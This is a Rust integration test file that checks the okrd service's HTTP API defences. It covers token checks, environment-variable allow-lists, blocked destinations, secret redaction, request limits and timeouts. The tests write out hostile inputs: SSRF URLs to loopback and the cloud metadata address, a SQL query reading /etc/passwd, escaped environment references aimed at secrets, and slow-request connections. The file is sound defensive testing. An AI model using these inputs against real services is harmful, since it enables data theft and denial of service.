//! `okrd serve` on an open port, probed as an attacker would: connectors
//! registered over the API are an operator's action, read only the
//! environment variables allowed, and reach only allowed destinations;
//! nothing secret or upstream leaves in a response or a log line; every
//! path and store applies the same point limits; requests, bodies and
//! connections are bounded; every error is JSON.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use crate::common::http;
use crate::common::server::{objective_yaml, service_yaml, signal, Server};
use crate::common::wait::eventually;
use crate::common::{both_stores, Backend};
use chrono::Utc;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

const TOKEN: &str = "tok-9f8e7d6c5b4a";

/// Sends a request; every answer must be JSON, whatever its status.
async fn send(
    method: reqwest::Method,
    url: &str,
    token: Option<&str>,
    body: Option<String>,
) -> (u16, Value, reqwest::header::HeaderMap) {
    let answer = http::request(method, url, token, body).await;
    (answer.status, answer.json(), answer.headers)
}

async fn get(url: &str, token: Option<&str>) -> (u16, Value, reqwest::header::HeaderMap) {
    send(reqwest::Method::GET, url, token, None).await
}

/// A TCP server that counts connections and answers each request with a
/// 500 whose body must never be shown by okrd.
struct Upstream {
    addr: std::net::SocketAddr,
    connections: Arc<AtomicUsize>,
}

const UPSTREAM_BODY: &str = "UPSTREAM-INTERNAL-7c1d secret admin page";

impl Upstream {
    async fn start() -> Upstream {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let connections = Arc::new(AtomicUsize::new(0));
        let counter = connections.clone();
        tokio::spawn(async move {
            loop {
                let Ok((mut s, _)) = listener.accept().await else {
                    return;
                };
                counter.fetch_add(1, Ordering::SeqCst);
                tokio::spawn(async move {
                    let mut buf = vec![0u8; 8192];
                    let _ = s.read(&mut buf).await;
                    let answer = format!(
                        "HTTP/1.1 500 Internal Server Error\r\ncontent-type: text/html\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{UPSTREAM_BODY}",
                        UPSTREAM_BODY.len()
                    );
                    let _ = s.write_all(answer.as_bytes()).await;
                });
            }
        });
        Upstream { addr, connections }
    }

    fn count(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }
}

fn http_connector(name: &str, url: &str) -> String {
    json!({
        "name": name,
        "type": "http",
        "schedule": "@every 1s",
        "request": {"url": url},
        "extract": {"metric": "m", "value": "/v"}
    })
    .to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_a_token_connectors_cannot_be_registered_at_all() {
    let server = Server::start(&service_yaml(""), &[], None, &[]);
    let url = server.url("/api/v1/connectors");
    // The escaped `$` that once slipped past a check on the raw text.
    let body = r#"{"name": "x", "type": "http", "schedule": "@every 1s",
        "request": {"url": "http://example.com/?h=\u0024{HOME}&db=\u0024{OKRD_DATABASE__URL}"},
        "extract": {"metric": "m", "value": "/v"}}"#;
    let (status, answer, _) = send(reqwest::Method::POST, &url, None, Some(body.into())).await;
    assert_eq!(status, 403, "{answer}");
    assert!(
        answer["error"].as_str().unwrap().contains("set http.token"),
        "{answer}"
    );
    let (status, _, _) = send(
        reqwest::Method::DELETE,
        &server.url("/api/v1/connectors/x"),
        None,
        None,
    )
    .await;
    assert_eq!(status, 403);
    let (status, list, _) = get(&url, None).await;
    assert_eq!(status, 200);
    assert_eq!(list["connectors"], json!([]), "nothing was stored");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn environment_references_are_checked_on_decoded_values() {
    let server = Server::start(
        &service_yaml(&format!(
            "  token: {TOKEN}\n  connector_env: [PUBLIC_PATH]\n"
        )),
        &[],
        None,
        &[("PUBLIC_PATH", "/metrics")],
    );
    let url = server.url("/api/v1/connectors");
    for escaped in [
        r"\u0024{HOME}",
        r"\u0024{OKRD_DATABASE__URL}",
        r"$\u007bHOME}",
    ] {
        let body = http_connector("x", &format!("http://example.com/?h={escaped}"));
        // `json!` escaped the backslash; put the JSON escape back.
        let body = body.replace(r"\\u", r"\u");
        let (status, answer, _) = send(reqwest::Method::POST, &url, Some(TOKEN), Some(body)).await;
        assert_eq!(status, 400, "{escaped}: {answer}");
        assert!(
            answer["error"]
                .as_str()
                .unwrap()
                .contains("http.connector_env (PUBLIC_PATH)"),
            "{escaped}: {answer}"
        );
        let home = std::env::var("HOME").unwrap_or_default();
        assert!(
            !answer.to_string().contains(&home) || home.len() < 2,
            "{answer}"
        );
    }
    let body = http_connector("ok", "http://example.com${PUBLIC_PATH}");
    let (status, answer, _) = send(reqwest::Method::POST, &url, Some(TOKEN), Some(body)).await;
    assert_eq!(status, 201, "an allowed variable: {answer}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn api_connectors_reach_no_loopback_link_local_or_private_address_by_default() {
    let upstream = Upstream::start().await;
    let server = Server::start(
        &service_yaml(&format!("  token: {TOKEN}\n")),
        &[],
        None,
        &[],
    );
    let url = server.url("/api/v1/connectors");
    let port = upstream.addr.port();
    let cases = [
        ("literal", format!("http://127.0.0.1:{port}/admin")),
        // A name is checked on the address it resolves to, when connecting.
        ("by-name", format!("http://localhost:{port}/admin")),
        ("decimal", format!("http://2130706433:{port}/admin")),
        ("mapped", format!("http://[::ffff:127.0.0.1]:{port}/admin")),
        (
            "metadata",
            "http://169.254.169.254/latest/meta-data/".to_string(),
        ),
        ("private", "http://10.255.255.1:8080/".to_string()),
    ];
    for (name, target) in &cases {
        let (status, answer, _) = send(
            reqwest::Method::POST,
            &url,
            Some(TOKEN),
            Some(http_connector(name, target)),
        )
        .await;
        assert_eq!(status, 201, "{name}: {answer}");
    }
    let sql = json!({
        "name": "local-pg", "type": "sql", "schedule": "@every 1s",
        "dsn": "postgres://postgres@127.0.0.1:5432/postgres",
        "query": "SELECT now() AS ts, length(pg_read_file('/etc/passwd'))::float8 AS value",
        "metric": "m"
    });
    let (status, _, _) = send(
        reqwest::Method::POST,
        &url,
        Some(TOKEN),
        Some(sql.to_string()),
    )
    .await;
    assert_eq!(status, 201);
    let prom = json!({
        "name": "local-prom", "type": "prometheus", "schedule": "@every 1s",
        "url": format!("http://localhost:{port}"), "query": "up", "metric": "m"
    });
    let (status, _, _) = send(
        reqwest::Method::POST,
        &url,
        Some(TOKEN),
        Some(prom.to_string()),
    )
    .await;
    assert_eq!(status, 201);

    let names: Vec<&str> = cases
        .iter()
        .map(|(n, _)| *n)
        .chain(["local-pg", "local-prom"])
        .collect();
    for name in &names {
        let c = eventually(Duration::from_secs(30), "the refusal", || async {
            let (_, c, _) = get(
                &server.url(&format!("/api/v1/connectors/{name}")),
                Some(TOKEN),
            )
            .await;
            c["last_error"].is_string().then_some(c)
        })
        .await;
        let error = c["last_error"].as_str().unwrap();
        assert!(
            error.contains("is not an allowed destination"),
            "{name}: {error}"
        );
        assert!(
            !error.contains(UPSTREAM_BODY) && !error.contains("root:"),
            "{error}"
        );
    }
    assert_eq!(
        upstream.count(),
        0,
        "no connection reached the loopback service"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_secret_or_upstream_body_in_any_response_or_log_line() {
    let upstream = Upstream::start().await;
    let secret = "sk-live-0123456789abcdef/+=";
    let db_password = "pg-pw-5f4e3d2c1b";
    let connectors = tempfile::tempdir().unwrap();
    std::fs::write(
        connectors.path().join("c.yaml"),
        format!(
            "- name: from-file\n  type: http\n  schedule: \"@every 1s\"\n  request:\n    url: \"http://{}/data?key=${{UPSTREAM_KEY}}\"\n    headers: {{ Authorization: \"Bearer ${{UPSTREAM_KEY}}\" }}\n  extract: {{ metric: m, value: /v }}\n\
             - name: warehouse\n  type: sql\n  schedule: \"@every 1s\"\n  dsn: ${{WAREHOUSE}}\n  query: SELECT now() AS ts, 1.0::float8 AS value\n  metric: m\n",
            upstream.addr
        ),
    )
    .unwrap();
    let service = service_yaml(&format!(
        "  token: {TOKEN}\n  connector_env: [UPSTREAM_KEY]\n  connector_destinations: [127.0.0.0/8]\n"
    )) + &format!("paths:\n  connectors: {}\n", connectors.path().display());
    let now = Utc::now();
    let server = Server::start(
        &service,
        &[("o.yaml", objective_yaml("o", "m", now))],
        None,
        &[
            ("UPSTREAM_KEY", secret),
            (
                "WAREHOUSE",
                &format!("postgres://okrd:{db_password}@127.0.0.1:1/x"),
            ),
        ],
    );
    let url = server.url("/api/v1/connectors");
    let api = http_connector(
        "from-api",
        &format!("http://{}/data?key=${{UPSTREAM_KEY}}", upstream.addr),
    );
    let (status, answer, _) = send(reqwest::Method::POST, &url, Some(TOKEN), Some(api)).await;
    assert_eq!(status, 201, "{answer}");
    // Every connector has failed at least once.
    for name in ["from-file", "from-api", "warehouse"] {
        eventually(Duration::from_secs(30), "an error recorded", || async {
            let (_, c, _) = get(
                &server.url(&format!("/api/v1/connectors/{name}")),
                Some(TOKEN),
            )
            .await;
            let e = c["last_error"].as_str()?.to_string();
            if name != "warehouse" {
                assert!(e.contains("HTTP 500 (text/html, 40 bytes)"), "{e}");
            }
            Some(())
        })
        .await;
    }
    // A refused push, a bad registration and an unknown route, for their
    // logs and answers.
    let (status, _, _) = send(
        reqwest::Method::POST,
        &server.url("/api/v1/points"),
        Some("wrong-token"),
        Some("{}".into()),
    )
    .await;
    assert_eq!(status, 401);
    let mut answers = Vec::new();
    for path in [
        "/",
        "/api/v1/connectors",
        "/api/v1/connectors/from-file",
        "/api/v1/connectors/from-api",
        "/api/v1/objectives",
        "/api/v1/key-results",
        "/api/v1/key-results/o/kr",
        "/api/v1/alerts",
        "/api/v1/dead-letters",
        "/metrics",
        "/readyz",
        "/healthz",
        "/nowhere",
    ] {
        for token in [None, Some(TOKEN)] {
            let mut r = http::client().get(server.url(path));
            if let Some(t) = token {
                r = r.bearer_auth(t);
            }
            let r = r.send().await.unwrap();
            answers.push(format!("{path}: {}", r.text().await.unwrap()));
        }
    }
    let log = server.log();
    let encoded = "sk-live-0123456789abcdef%2F%2B%3D";
    for (what, text) in answers
        .iter()
        .map(|a| ("response", a.as_str()))
        .chain(log.lines().map(|l| ("log line", l)))
    {
        for needle in [secret, encoded, TOKEN, UPSTREAM_BODY, db_password] {
            assert!(!text.contains(needle), "a {what} shows {needle:?}: {text}");
        }
    }
    assert!(
        log.contains("key=${UPSTREAM_KEY}"),
        "errors name the placeholder instead:\n{log}"
    );
    // Connector definitions, their errors and dead letters need the token.
    for path in [
        "/api/v1/connectors",
        "/api/v1/connectors/from-api",
        "/api/v1/dead-letters",
    ] {
        let (status, _, _) = get(&server.url(path), None).await;
        assert_eq!(status, 401, "{path}");
    }
    for path in ["/api/v1/key-results", "/api/v1/objectives", "/metrics", "/"] {
        let r = http::client().get(server.url(path)).send().await.unwrap();
        assert_eq!(r.status().as_u16(), 200, "{path} stays open");
    }
}

both_stores!(points_past_a_limit_are_rejected_with_their_reason);

async fn points_past_a_limit_are_rejected_with_their_reason(backend: Backend) {
    let database_url = backend.server_url();
    let server = Server::start(&service_yaml(""), &[], database_url.as_deref(), &[]);
    let url = server.url("/api/v1/points");
    let point =
        |labels: Value, ts: Value| json!({"metric": "m", "labels": labels, "ts": ts, "value": 1});
    let many: serde_json::Map<String, Value> =
        (0..10_000).map(|i| (format!("l{i}"), json!("v"))).collect();
    let widest: serde_json::Map<String, Value> = (0..32)
        .map(|i| (format!("l{i:0>254}"), json!("v".repeat(1024))))
        .collect();
    let ts = json!("2026-10-01T00:00:00Z");
    let cases = [
        (
            point(json!({"a": "v".repeat(3000)}), ts.clone()),
            "invalid_labels",
        ),
        (point(Value::Object(many), ts.clone()), "invalid_labels"),
        (point(json!({}), json!(-1e12)), "invalid_ts"),
        (point(json!({}), json!(-1)), "invalid_ts"),
        (
            point(json!({}), json!("10000-01-01T00:00:00Z")),
            "invalid_ts",
        ),
        (
            json!({"metric": "m".repeat(256), "ts": ts, "value": 1}),
            "invalid_metric",
        ),
    ];
    for (i, (p, reason)) in cases.iter().enumerate() {
        let body = json!({"points": [point(json!({}), ts.clone()), p]}).to_string();
        let (status, answer, _) = send(reqwest::Method::POST, &url, None, Some(body)).await;
        assert_eq!(status, 400, "case {i}: {answer}");
        assert_eq!(answer["rejected"][0]["index"], 1, "case {i}: {answer}");
        assert_eq!(
            answer["rejected"][0]["reason"], *reason,
            "case {i}: {answer}"
        );
    }
    // A label written twice: the raw text, since a JSON map cannot hold it.
    let body = r#"{"points": [{"metric": "m", "labels": {"a": "1", "a": "2"}, "ts": 1790812800, "value": 1}]}"#;
    let (status, answer, _) = send(reqwest::Method::POST, &url, None, Some(body.into())).await;
    assert_eq!(status, 400, "{answer}");
    assert_eq!(answer["rejected"][0]["reason"], "invalid_labels");
    assert!(answer["rejected"][0]["message"]
        .as_str()
        .unwrap()
        .contains("written twice"));
    // At every limit exactly, the point is stored, on either store.
    let body = json!({"points": [point(Value::Object(widest), ts.clone()),
        {"metric": "m".repeat(255), "ts": "9999-12-31T23:59:59Z", "value": 2},
        {"metric": "m", "ts": 0, "value": 3}]})
    .to_string();
    let (status, answer, _) = send(reqwest::Method::POST, &url, None, Some(body)).await;
    assert_eq!(
        (status, answer["stored"].as_u64()),
        (200, Some(3)),
        "{answer}"
    );
    let metrics = http::client()
        .get(server.url("/metrics"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    for (reason, n) in [
        ("invalid_labels", 3),
        ("invalid_ts", 3),
        ("invalid_metric", 1),
    ] {
        let series =
            format!("okrd_points_rejected_total{{connector=\"push\",reason=\"{reason}\"}} {n}");
        assert!(metrics.contains(&series), "{series} in:\n{metrics}");
    }
}

/// A store that stops answering (PostgreSQL: a SQLite file cannot be made
/// unreachable the same way).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn readyz_says_the_store_is_down_without_its_error_text() {
    if crate::common::pg::skip() {
        return;
    }
    let db = crate::common::pg::fresh_database().await;
    let url = db.url().to_string();
    let server = Server::start(&service_yaml(""), &[], Some(&url), &[]);
    // End the server's sessions and forbid new ones: the store is down.
    let name = url.rsplit('/').next().unwrap().to_string();
    let admin = crate::common::pg::admin_url();
    let mut conn = <sqlx::PgConnection as sqlx::Connection>::connect(&admin)
        .await
        .unwrap();
    sqlx::query(&format!("ALTER DATABASE {name} ALLOW_CONNECTIONS false"))
        .execute(&mut conn)
        .await
        .unwrap();
    sqlx::query("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = $1")
        .bind(&name)
        .execute(&mut conn)
        .await
        .unwrap();
    let (status, answer, _) = eventually(Duration::from_secs(30), "readyz 503", || async {
        let got = get(&server.url("/readyz"), None).await;
        (got.0 == 503).then_some(got)
    })
    .await;
    assert_eq!(status, 503);
    assert_eq!(answer, json!({"error": "the store is unavailable"}));
    sqlx::query(&format!("ALTER DATABASE {name} ALLOW_CONNECTIONS true"))
        .execute(&mut conn)
        .await
        .unwrap();
}

/// Sends raw bytes and reads the answer until the server closes or
/// `within` passes; returns what arrived and whether the server closed.
async fn raw(addr: &str, bytes: &[u8], within: Duration) -> (String, bool) {
    let mut s = TcpStream::connect(addr).await.unwrap();
    s.write_all(bytes).await.unwrap();
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    let deadline = tokio::time::Instant::now() + within;
    loop {
        match tokio::time::timeout_at(deadline, s.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => return (String::from_utf8_lossy(&got).into(), true),
            Ok(Ok(n)) => got.extend_from_slice(&buf[..n]),
            Err(_) => return (String::from_utf8_lossy(&got).into(), false),
        }
    }
}

fn addr(server: &Server) -> String {
    server.base.trim_start_matches("http://").to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_token_and_a_declared_length_are_checked_before_any_body_is_read() {
    let server = Server::start(
        &service_yaml(&format!("  token: {TOKEN}\n  max_body: 1KiB\n")),
        &[],
        None,
        &[],
    );
    let a = addr(&server);
    // Headers only: the answer comes without the body ever being sent.
    let (answer, _) = raw(
        &a,
        b"POST /api/v1/points HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 500\r\n\r\n",
        Duration::from_secs(5),
    )
    .await;
    assert!(answer.starts_with("HTTP/1.1 401"), "{answer}");
    assert!(answer.contains("\"error\""), "{answer}");
    let request = format!(
        "POST /api/v1/points HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {TOKEN}\r\ncontent-length: 1000000\r\n\r\n"
    );
    let (answer, _) = raw(&a, request.as_bytes(), Duration::from_secs(5)).await;
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    assert!(answer.contains("larger than http.max_body"), "{answer}");
    // JSON on every error: unknown route, wrong method.
    let (status, answer, _) = get(&server.url("/nope"), None).await;
    assert_eq!(
        (status, answer["error"].as_str()),
        (404, Some("no such route"))
    );
    let (status, _, _) = send(
        reqwest::Method::PUT,
        &server.url("/api/v1/points"),
        None,
        None,
    )
    .await;
    assert_eq!(status, 405);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bodies_buffered_at_once_are_capped_with_503_and_retry_after() {
    let server = Server::start(
        &service_yaml("  max_body: 32KiB\n  max_buffered: 64KiB\n  request_timeout: 20s\n"),
        &[],
        None,
        &[],
    );
    let a = addr(&server);
    // Two uploads that declare 32 KiB and send only part of it hold the
    // whole budget while they last.
    let mut slow = Vec::new();
    for _ in 0..2 {
        let mut s = TcpStream::connect(&a).await.unwrap();
        s.write_all(b"POST /api/v1/points HTTP/1.1\r\nhost: x\r\ncontent-length: 32768\r\n\r\n{\"points\":[")
            .await
            .unwrap();
        slow.push(s);
    }
    let push_until = |want: u16, what: &'static str| {
        let url = server.url("/api/v1/points");
        eventually(Duration::from_secs(10), what, move || {
            let url = url.clone();
            async move {
                let got = send(
                    reqwest::Method::POST,
                    &url,
                    None,
                    Some(r#"{"points": []}"#.into()),
                )
                .await;
                (got.0 == want).then_some(got)
            }
        })
    };
    let (status, answer, headers) = push_until(503, "a 503").await;
    assert_eq!(status, 503);
    assert_eq!(headers["retry-after"], "1");
    assert!(answer["error"].as_str().unwrap().contains("max_buffered"));
    // Reads need no budget.
    let (status, _, _) = get(&server.url("/api/v1/objectives"), None).await;
    assert_eq!(status, 200);
    drop(slow);
    let (status, answer, _) = push_until(200, "room again").await;
    assert_eq!((status, answer["stored"].as_u64()), (200, Some(0)));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_headers_idle_connections_and_slow_bodies_are_cut_off() {
    let server = Server::start(
        &service_yaml("  header_timeout: 1s\n  request_timeout: 2s\n"),
        &[],
        None,
        &[],
    );
    let a = addr(&server);
    // Half the headers, then nothing: closed after the header timeout.
    let started = Instant::now();
    let (answer, closed) = raw(
        &a,
        b"GET /healthz HTTP/1.1\r\nhost:",
        Duration::from_secs(8),
    )
    .await;
    assert!(closed, "a half-sent header is cut off: {answer:?}");
    assert!(started.elapsed() < Duration::from_secs(8));
    // A connection that sends nothing is closed too.
    let (answer, closed) = raw(&a, b"", Duration::from_secs(8)).await;
    assert!(
        closed && answer.is_empty(),
        "an idle connection is closed: {answer:?}"
    );
    // A keep-alive connection idle after its answer is closed too.
    let (answer, closed) = raw(
        &a,
        b"GET /healthz HTTP/1.1\r\nhost: x\r\n\r\n",
        Duration::from_secs(8),
    )
    .await;
    assert!(answer.starts_with("HTTP/1.1 200") && closed, "{answer:?}");
    // A body that never completes: 408, as JSON.
    let (answer, _) = raw(
        &a,
        b"POST /api/v1/points HTTP/1.1\r\nhost: x\r\ncontent-length: 100\r\n\r\n{\"po",
        Duration::from_secs(8),
    )
    .await;
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer:?}");
    assert!(answer.contains("http.request_timeout"), "{answer:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn shutdown_drops_what_is_still_unfinished_after_its_deadline() {
    let mut server = Server::start(
        &service_yaml("  shutdown_timeout: 1s\n  request_timeout: 120s\n  header_timeout: 120s\n"),
        &[],
        None,
        &[],
    );
    let a = addr(&server);
    let mut half = TcpStream::connect(&a).await.unwrap();
    half.write_all(b"POST /api/v1/points HTTP/1.1\r\nhost: x\r\ncontent-length: 100\r\n\r\n{")
        .await
        .unwrap();
    // The request is in the handler, waiting for its body.
    tokio::time::sleep(Duration::from_millis(300)).await;
    let started = Instant::now();
    signal(server.pid(), "TERM");
    assert!(server.wait_exit(), "exits cleanly");
    // Well before the 120 s the request and header timeouts would take.
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "{:?}",
        started.elapsed()
    );
    assert!(server.log().contains("dropping their connections"));
}

#[test]
fn the_documented_reject_reasons_are_the_code_s() {
    let readme = include_str!("../../README.md");
    let after = readme
        .split("`okrd_points_rejected_total{connector,reason}` (")
        .nth(1)
        .expect("README lists the reject reasons");
    let list = &after[..after.find(';').unwrap()];
    let documented: Vec<&str> = list
        .split(',')
        .map(|s| s.trim().trim_matches('`'))
        .collect();
    let code: Vec<&str> = okrd::ingest::REJECT_REASONS
        .iter()
        .map(|r| r.as_str())
        .collect();
    assert_eq!(documented, code);
}
